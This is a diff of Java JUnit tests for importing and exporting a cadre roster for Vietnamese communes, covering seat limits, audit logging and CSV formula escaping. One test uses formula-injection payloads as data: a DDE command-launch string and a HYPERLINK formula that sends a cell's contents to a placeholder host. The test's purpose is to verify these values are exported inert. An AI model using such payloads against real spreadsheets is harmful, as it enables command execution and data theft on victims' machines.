@@ -16,6 +16,7 @@ import java.time.LocalDate;
 import java.util.List;
 import java.util.Map;
 import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.test.context.SpringBootTest;
@@ -29,6 +30,7 @@ import org.springframework.test.context.ActiveProfiles;
 import org.springframework.transaction.annotation.Transactional;
 import vn.tayninh.dashboard.commune.Commune;
 import vn.tayninh.dashboard.commune.CommuneService;
+import vn.tayninh.dashboard.position.Position;
 import vn.tayninh.dashboard.roster.ImportResult.CommuneCounts;
 
 /**
@@ -55,6 +57,17 @@ class RosterImportTest {
     JdbcTemplate jdbc;
 
     private final LocalDate today = FixedClockConfig.TODAY;
+
+    /** Room for every title and seat in the two communes of these tests; a test may narrow it. */
+    @BeforeEach
+    void approveSeats() {
+        for (String commune : List.of(TAN_NINH, HUNG_DIEN)) {
+            for (Position position : Position.values()) {
+                jdbc.update("INSERT INTO approved_seat (commune_id, position_code, seats) VALUES (?, ?, 9)",
+                        communeNamed(commune).getId(), position.name());
+            }
+        }
+    }
 
     @AfterEach
     void signOut() {
@@ -225,6 +238,158 @@ class RosterImportTest {
         SecurityContextHolder.clearContext();
         assertThatThrownBy(() -> exporter.exportProvince(today, new ByteArrayOutputStream()))
                 .isInstanceOf(AccessDeniedException.class);
+    }
+
+    @Test
+    void aFileBreakingTheSeatRulesIsRefusedWithTheLineColumnAndRuleAndWritesNothing() throws IOException {
+        signIn("bantochuc");
+        approve(HUNG_DIEN, Position.BI_THU, 1);
+        approve(HUNG_DIEN, Position.CT_UBND, 1);
+        approve(HUNG_DIEN, Position.CT_HDND, 1);
+        approve(HUNG_DIEN, Position.BCH, 3);
+        approve(HUNG_DIEN, Position.BTV, 2);
+        // fills BI_THU 1/1, CT_UBND 1/1, BCH 3/3, BTV 2/2
+        importer.commit(csv(HEADER + row(HUNG_DIEN, "Bí Thư Cũ", "BI_THU", "BTV", "", "")
+                + row(HUNG_DIEN, "Chủ Tịch Cũ", "CT_UBND", "BTV", "", "")
+                + row(HUNG_DIEN, "Ủy Viên Cũ", "", "BCH", "", "")), ImportMode.ADD);
+        String seatsFull = "Đã đủ số lượng được phê duyệt (%d); Ban Tổ chức có thể điều chỉnh số được phê duyệt";
+        String crowded = HEADER + row(HUNG_DIEN, "Người Thừa", "CT_UBND;BI_THU;CT_HDND", "BTV", "", "");
+
+        assertThatThrownBy(() -> importer.preview(csv(crowded), ImportMode.ADD))
+                .isInstanceOfSatisfying(InvalidRosterException.class, e -> assertThat(e.errors())
+                        .extracting(ImportError::line, ImportError::column, ImportError::message)
+                        .containsExactly(
+                                tuple(2, "titles", "BI_THU: " + seatsFull.formatted(1)),
+                                tuple(2, "titles", "CT_UBND: " + seatsFull.formatted(1)),
+                                tuple(2, "committee", "BCH: " + seatsFull.formatted(3)),
+                                tuple(2, "committee", "BTV: " + seatsFull.formatted(2))));
+        assertThatThrownBy(() -> importer.commit(csv(crowded), ImportMode.ADD))
+                .isInstanceOf(InvalidRosterException.class);
+
+        // replacing ends the holders first: the first row fits, the second Secretary does not
+        String secondSecretary = crowded + row(HUNG_DIEN, "Bí Thư Thứ Hai", "BI_THU", "NONE", "", "");
+        assertThatThrownBy(() -> importer.commit(csv(secondSecretary), ImportMode.REPLACE))
+                .isInstanceOfSatisfying(InvalidRosterException.class, e -> assertThat(e.errors())
+                        .extracting(ImportError::line, ImportError::column, ImportError::message)
+                        .containsExactly(tuple(3, "titles", "BI_THU: " + seatsFull.formatted(1))));
+
+        // a rating for a year the rating form does not accept
+        String futureRating = HEADER.replace("rating_2026", "rating_2099")
+                + row(HUNG_DIEN, "Người Xếp Loại Trước", "", "NONE", "", "HTXS");
+        assertThatThrownBy(() -> importer.commit(csv(futureRating), ImportMode.ADD))
+                .isInstanceOfSatisfying(InvalidRosterException.class, e -> assertThat(e.errors())
+                        .extracting(ImportError::line, ImportError::column, ImportError::message)
+                        .containsExactly(tuple(2, "rating_2099", "Năm xếp loại phải từ 2020 đến 2026")));
+
+        assertThat(activeCadres(HUNG_DIEN)).isEqualTo(3);
+        assertThat(activeHoldings(HUNG_DIEN)).isEqualTo(7);
+        assertThat(count("SELECT COUNT(*) FROM annual_rating")).isZero();
+
+        ImportResult replaced = importer.commit(csv(crowded), ImportMode.REPLACE);
+        assertThat(replaced.communes()).containsExactly(new CommuneCounts(HUNG_DIEN, 1, 3));
+        assertThat(activeHoldings(HUNG_DIEN)).isEqualTo(5);
+    }
+
+    @Test
+    void everyRecordAnImportCreatesOrEndsIsInTheAuditTrail() throws IOException {
+        signIn("bantochuc");
+        importer.commit(csv(HEADER + row(TAN_NINH, "Nguyễn Văn Một", "BI_THU", "BTV", "HTXS", "HTT")),
+                ImportMode.ADD);
+        long cadre = count("SELECT id FROM cadre");
+        // by position code: BCH, BI_THU, BTV
+        List<Long> holdingIds = jdbc.queryForList("SELECT id FROM position_holding ORDER BY position_code", Long.class);
+        List<Long> ratingIds = jdbc.queryForList("SELECT id FROM annual_rating ORDER BY rating_year", Long.class);
+        String date = "22/11/2026";
+
+        assertThat(audit()).containsExactly(
+                "CADRE " + cadre + " CREATE fullName:  → Nguyễn Văn Một",
+                "HOLDING " + holdingIds.get(1) + " CREATE cadre:  → Nguyễn Văn Một",
+                "HOLDING " + holdingIds.get(1) + " CREATE position:  → BI_THU",
+                "HOLDING " + holdingIds.get(1) + " CREATE startDate:  → " + date,
+                "HOLDING " + holdingIds.get(1) + " CREATE decisionNumber:  → Nhập từ tệp",
+                "HOLDING " + holdingIds.get(0) + " CREATE cadre:  → Nguyễn Văn Một",
+                "HOLDING " + holdingIds.get(0) + " CREATE position:  → BCH",
+                "HOLDING " + holdingIds.get(0) + " CREATE startDate:  → " + date,
+                "HOLDING " + holdingIds.get(0) + " CREATE decisionNumber:  → Nhập từ tệp",
+                "HOLDING " + holdingIds.get(2) + " CREATE cadre:  → Nguyễn Văn Một",
+                "HOLDING " + holdingIds.get(2) + " CREATE position:  → BTV",
+                "HOLDING " + holdingIds.get(2) + " CREATE startDate:  → " + date,
+                "HOLDING " + holdingIds.get(2) + " CREATE decisionNumber:  → Nhập từ tệp",
+                "RATING " + ratingIds.get(0) + " CREATE cadre:  → Nguyễn Văn Một",
+                "RATING " + ratingIds.get(0) + " CREATE year:  → 2025",
+                "RATING " + ratingIds.get(0) + " CREATE rating:  → HTXS",
+                "RATING " + ratingIds.get(1) + " CREATE cadre:  → Nguyễn Văn Một",
+                "RATING " + ratingIds.get(1) + " CREATE year:  → 2026",
+                "RATING " + ratingIds.get(1) + " CREATE rating:  → HTT");
+
+        jdbc.update("DELETE FROM audit_entry");
+        importer.commit(csv(HEADER + row(TAN_NINH, "Trần Thị Hai", "", "NONE", "", "")), ImportMode.REPLACE);
+        long second = count("SELECT id FROM cadre WHERE end_date IS NULL");
+
+        assertThat(audit()).containsExactly(
+                "CADRE " + cadre + " END fullName: Nguyễn Văn Một → ",
+                "CADRE " + cadre + " END endDate:  → " + date,
+                "CADRE " + cadre + " END reason:  → OTHER",
+                "HOLDING " + holdingIds.get(1) + " END endDate:  → " + date,
+                "HOLDING " + holdingIds.get(1) + " END reason:  → OTHER",
+                "HOLDING " + holdingIds.get(0) + " END endDate:  → " + date,
+                "HOLDING " + holdingIds.get(0) + " END reason:  → OTHER",
+                "HOLDING " + holdingIds.get(2) + " END endDate:  → " + date,
+                "HOLDING " + holdingIds.get(2) + " END reason:  → OTHER",
+                "CADRE " + second + " CREATE fullName:  → Trần Thị Hai");
+        assertThat(jdbc.queryForList("SELECT DISTINCT actor FROM audit_entry", String.class))
+                .containsExactly("bantochuc");
+    }
+
+    @Test
+    void formulaLikeTextsAreExportedInertAndImportedBackUnchanged() throws IOException {
+        signIn("admin");
+        String name = "+cmd|' /C calc'!A0";
+        String link = "=HYPERLINK(\"http://x\"&A2,\"Xem\")";
+        importer.commit(csv(HEADER
+                + row(TAN_NINH, name, "", "NONE", "", "").replace(",Kinh,", ",=1+1,")
+                + row(TAN_NINH, link, "", "NONE", "", "").replace(",Kinh,", ",@Khmer,")
+                + row(TAN_NINH, "-Lê Văn Ba", "", "NONE", "", "")), ImportMode.ADD);
+        assertThat(names()).containsExactly(name + " | =1+1", link + " | @Khmer", "-Lê Văn Ba | Kinh");
+
+        ByteArrayOutputStream exported = new ByteArrayOutputStream();
+        exporter.exportCommune(communeNamed(TAN_NINH), today, exported);
+        assertThat(exported.toString(StandardCharsets.UTF_8).lines().skip(1).toList()).containsExactly(
+                "phuong-tan-ninh,'+cmd|' /C calc'!A0,NAM,1980-01-01,'=1+1,DAI_HOC,TRUNG_CAP,false,NHA_NUOC,,NONE,"
+                        + "false,false,false,false",
+                "phuong-tan-ninh,\"'=HYPERLINK(\"\"http://x\"\"&A2,\"\"Xem\"\")\",NAM,1980-01-01,'@Khmer,DAI_HOC,"
+                        + "TRUNG_CAP,false,NHA_NUOC,,NONE,false,false,false,false",
+                "phuong-tan-ninh,'-Lê Văn Ba,NAM,1980-01-01,Kinh,DAI_HOC,TRUNG_CAP,false,NHA_NUOC,,NONE,"
+                        + "false,false,false,false");
+
+        importer.commit(new ByteArrayInputStream(exported.toByteArray()), ImportMode.REPLACE);
+        assertThat(names()).containsExactly(name + " | =1+1", link + " | @Khmer", "-Lê Văn Ba | Kinh");
+
+        // exactly one quote is taken away, and only before = + - @ tab or carriage return
+        importer.commit(csv(HEADER + row(HUNG_DIEN, "''=x", "", "NONE", "", "")
+                + row(HUNG_DIEN, "'An", "", "NONE", "", "")), ImportMode.ADD);
+        assertThat(jdbc.queryForList("""
+                SELECT c.full_name FROM cadre c JOIN commune m ON m.id = c.commune_id
+                WHERE m.code = ? ORDER BY c.id""", String.class, HUNG_DIEN)).containsExactly("'=x", "'An");
+    }
+
+    private List<String> names() {
+        return jdbc.query("""
+                SELECT c.full_name, c.ethnicity FROM cadre c JOIN commune m ON m.id = c.commune_id
+                WHERE m.code = ? AND c.end_date IS NULL ORDER BY c.id""",
+                (rs, i) -> rs.getString(1) + " | " + rs.getString(2), TAN_NINH);
+    }
+
+    private List<String> audit() {
+        return jdbc.query("SELECT entity, entity_id, action, field, old_value, new_value FROM audit_entry ORDER BY id",
+                (rs, i) -> rs.getString(1) + " " + rs.getLong(2) + " " + rs.getString(3) + " " + rs.getString(4)
+                        + ": " + (rs.getString(5) == null ? "" : rs.getString(5)) + " → "
+                        + (rs.getString(6) == null ? "" : rs.getString(6)));
+    }
+
+    private void approve(String commune, Position position, int seats) {
+        jdbc.update("UPDATE approved_seat SET seats = ? WHERE commune_id = ? AND position_code = ?", seats,
+                communeNamed(commune).getId(), position.name());
     }
 
     /** A row of a valid cadre: a Kinh man born 1980 with a university degree, in the state bloc. */
